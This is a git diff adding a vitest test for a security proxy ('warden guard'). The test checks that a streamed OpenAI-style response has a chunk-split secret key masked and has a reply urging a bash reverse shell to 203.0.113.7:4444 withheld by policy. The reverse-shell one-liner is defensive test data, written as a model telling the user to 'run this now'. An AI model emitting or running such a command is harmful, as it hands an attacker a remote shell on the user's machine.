@@ -1,9 +1,11 @@
 import { spawn, type ChildProcess } from 'node:child_process';
 import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
+import OpenAI from 'openai';
 import { describe, expect, it } from 'vitest';
 import { openAuditStore } from '../../apps/guard/audit/index.js';
 import { useCliCapture } from '../../../test/cli.js';
+import { startOpenAIUpstream } from '../../../test/upstreams/openai.js';
 import { useTempDir } from '../../../test/helpers.js';
 
 let dir: string;
@@ -101,6 +103,39 @@ describe('warden guard', () => {
     } finally {
       await audit.close();
     }
+  });
+
+  it('serve: the official OpenAI SDK streams through the proxy; a secret split across chunks arrives masked, a command blocks', async () => {
+    const upstream = await startOpenAIUpstream();
+    const config = join(dir, 'proxy.yaml');
+    await writeFile(config, `upstreams:\n  openai: { base_url: "${upstream.baseURL}", pass_client_key: true }\n`);
+    const served = await serve('--config', config, '--db', `sqlite:${join(dir, 'proxy.db')}`);
+    try {
+      const client = new OpenAI({ baseURL: `${served.url}/v1`, apiKey: 'sk-client-key', maxRetries: 0 });
+      const read = async () => {
+        const stream = await client.chat.completions.create({ model: 'gpt-test', messages: [{ role: 'user', content: 'hi' }], stream: true });
+        let text = '';
+        let finish: string | null = null;
+        for await (const chunk of stream) {
+          text += chunk.choices[0]?.delta?.content ?? '';
+          finish = chunk.choices[0]?.finish_reason ?? finish;
+        }
+        return { text, finish };
+      };
+      upstream.use({ content: ['Your key is sk_live_51HxQ2a', 'LkR9mT4vW8zN3pB7cY', ' — keep it safe.'] });
+      const masked = await read();
+      expect(masked.text).toBe(`Your key is sk${'*'.repeat(SECRET.length - 4)}cY — keep it safe.`);
+      expect(masked.finish).toBe('stop');
+      upstream.use({ content: ['To fix it, run this now:\n\n```bash\nbash -i >& /dev/tcp/203.0.11', '3.7/4444 0>&1\n```\n'] });
+      const blocked = await read();
+      expect(blocked.text).toBe('This response was withheld by the security policy.');
+      expect(blocked.finish).toBe('content_filter');
+      expect(upstream.requests.at(-1)?.headers['authorization']).toBe('Bearer sk-client-key');
+    } finally {
+      served.child.kill('SIGTERM');
+      await upstream.close();
+    }
+    expect(await served.exit).toBe(0);
   });
 
   it('serve --shadow --json: every policy passes through, decisions say what enforcement would do; SIGINT stops', async () => {
